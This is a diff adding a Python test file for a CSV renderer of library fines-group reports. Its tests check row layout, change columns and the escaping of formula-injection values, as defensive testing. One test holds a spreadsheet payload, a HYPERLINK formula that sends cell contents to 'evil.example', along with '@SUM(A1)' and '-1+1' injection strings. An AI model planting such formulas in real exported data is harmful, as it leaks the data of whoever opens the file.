@@ -1,0 +1,159 @@
+"""CSV: read back it says the same, and no name becomes a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from decimal import Decimal
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from support.report_samples import (
+    changed_report,
+    empty_report,
+    hostile_changed_reports,
+    hostile_reports,
+    hostile_texts,
+    member,
+    report_of,
+    report_with_limits,
+    sample_report,
+)
+
+from evergreen_groups.groups import GroupFines
+from evergreen_groups.render import harmless
+from evergreen_groups.render.report import render
+from evergreen_groups.render.report.csv import CHANGE_COLUMNS, GROUP_COLUMNS, MEMBER_COLUMNS
+from evergreen_groups.report import Report
+
+FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r")
+NUMBER = re.compile(r"-?\d+(\.\d\d)?")
+
+
+def csv_text(report: Report, *, details: bool = True, bom: bool = False) -> str:
+    stream = io.StringIO(newline="")
+    render(report, "csv", stream, details=details, bom=bom)
+    return stream.getvalue()
+
+
+def rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
+
+
+def taken_back(cell: str) -> str:
+    """What a reader gets who removes the apostrophe that makes a cell harmless."""
+    return cell[1:] if re.match("'+[=+\\-@\t\r\n＝＋－＠]", cell) else cell
+
+
+def test_one_row_for_each_member() -> None:
+    report = sample_report()
+    read = rows(csv_text(report))
+    members = [(group, one) for group in report.groups for one in group.members]
+    assert len(read) == len(members)
+    for row, (group, one) in zip(read, members, strict=True):
+        assert row["group"] == str(group.group)
+        assert Decimal(row["combined_fines"]) == group.combined_fines
+        assert row["nobody_over_limit"] == str(group.nobody_over_limit).lower()
+        assert row["lead_name"] == group.lead.name
+        assert row["member_id"] == str(one.id)
+        assert row["member_name"] == one.name
+        assert row["member_barcode"] == (one.barcode or "")
+        assert row["member_own_fines"] == f"{one.own_fines:.2f}"
+        assert row["member_limit"] == "5.00"
+
+
+def test_each_member_has_the_limit_that_counts_for_them() -> None:
+    assert [row["member_limit"] for row in rows(csv_text(report_with_limits()))] == ["5.00", "2.00", ""]
+
+
+def test_one_row_for_each_group_without_details() -> None:
+    text = csv_text(sample_report(), details=False)
+    assert tuple(text.split("\r\n")[0].split(",")) == GROUP_COLUMNS + CHANGE_COLUMNS
+    assert [row["group"] for row in rows(text)] == ["1187", "902", "2240", "85", "31007"]
+
+
+def test_incomplete_groups() -> None:
+    read = {row["group"]: row for row in rows(csv_text(sample_report(), details=False))}
+    assert (read["902"]["complete"], read["902"]["hidden_member_count"]) == ("true", "0")
+    assert (read["2240"]["complete"], read["2240"]["hidden_member_count"]) == ("false", "2")
+    assert (read["2240"]["hidden_fines"], read["31007"]["hidden_fines"]) == ("6.40", "")
+
+
+def test_header_alone_when_empty() -> None:
+    assert csv_text(empty_report()) == ",".join(GROUP_COLUMNS + MEMBER_COLUMNS + CHANGE_COLUMNS) + "\r\n"
+
+
+def test_changes_are_in_the_last_columns() -> None:
+    read = {row["group"]: row for row in rows(csv_text(changed_report(), details=False))}
+    shown = {group: [row[column] for column in CHANGE_COLUMNS] for group, row in read.items()}
+    assert shown == {
+        "1187": ["worse", "1204.00", "85.35", ""],
+        "902": ["new", "", "29.00", "77"],
+        "2240": ["better", "40.00", "-11.61", "11"],
+        "85": ["unchanged", "25.25", "0.00", "84 85"],
+        "31007": ["unchanged", "25.00", "0.00", ""],
+        "611": ["cleared", "1260.10", "-1260.10", ""],
+        "17": ["cleared", "26.10", "-26.10", ""],
+    }
+    assert (read["611"]["library"], read["611"]["combined_fines"], read["611"]["lead_name"]) == ("BR1", "", "")
+
+
+def test_cleared_groups_have_one_row_beside_the_members() -> None:
+    read = rows(csv_text(changed_report()))
+    assert [row["group"] for row in read if not row["member_id"]] == ["611", "17"]
+    assert {row["change"] for row in read if row["group"] == "1187"} == {"worse"}
+    assert all(row[column] == "" for row in rows(csv_text(sample_report())) for column in CHANGE_COLUMNS)
+
+
+def test_byte_order_mark() -> None:
+    assert csv_text(sample_report(), bom=True) == "\ufeff" + csv_text(sample_report())
+
+
+def test_credit_stays_a_number() -> None:
+    assert "-3.25" in [row["member_own_fines"] for row in rows(csv_text(sample_report()))]
+
+
+def test_formulas_are_made_harmless() -> None:
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    report = report_of([GroupFines(1, (member(1, hostile, "30.00", barcode="-1+1", library="@SUM(A1)"),))])
+    [row] = rows(csv_text(report))
+    assert row["member_name"] == "'" + hostile
+    assert row["lead_name"] == "'" + hostile
+    assert (row["member_barcode"], row["member_library"], row["library"]) == ("'-1+1", "'@SUM(A1)", "'@SUM(A1)")
+
+
+@given(hostile_texts)
+def test_the_apostrophe_can_be_taken_back(text: str) -> None:
+    assert not harmless(text).startswith(FORMULA_SIGNS)
+    assert taken_back(harmless(text)) == text
+
+
+@settings(deadline=None, max_examples=60)
+@given(hostile_reports(), st.booleans())
+def test_hostile_names_read_back(report: Report, bom: bool) -> None:
+    text = csv_text(report, bom=bom)
+    text.encode("utf-8")
+    read = rows(text.removeprefix("\ufeff"))
+    members = [one for group in report.groups for one in group.members]
+    assert [taken_back(row["member_name"]) for row in read] == [one.name for one in members]
+    assert [taken_back(row["member_barcode"]) for row in read] == [one.barcode or "" for one in members]
+    assert [row["member_own_fines"] for row in read] == [f"{one.own_fines:.2f}" for one in members]
+    for row in read:
+        assert None not in row
+        assert all(not cell.startswith(FORMULA_SIGNS) or NUMBER.fullmatch(cell) for cell in row.values())
+
+
+@settings(deadline=None, max_examples=30)
+@given(hostile_changed_reports())
+def test_libraries_of_cleared_groups_are_no_formulas(report: Report) -> None:
+    assert report.changes
+    read = [row for row in rows(csv_text(report)) if row["change"] == "cleared"]
+    assert [taken_back(row["library"]) for row in read] == [change.library for change in report.changes.cleared]
+    assert not any(row["library"].startswith(FORMULA_SIGNS) for row in read)
+
+
+def test_half_a_surrogate_pair_does_not_stop_the_report() -> None:
+    report = report_of([GroupFines(1, (member(1, "Smith\ud83d", "30.00"),))])
+    csv_text(report).encode("utf-8")
+    assert rows(csv_text(report))[0]["member_name"] == "Smith\ufffd"
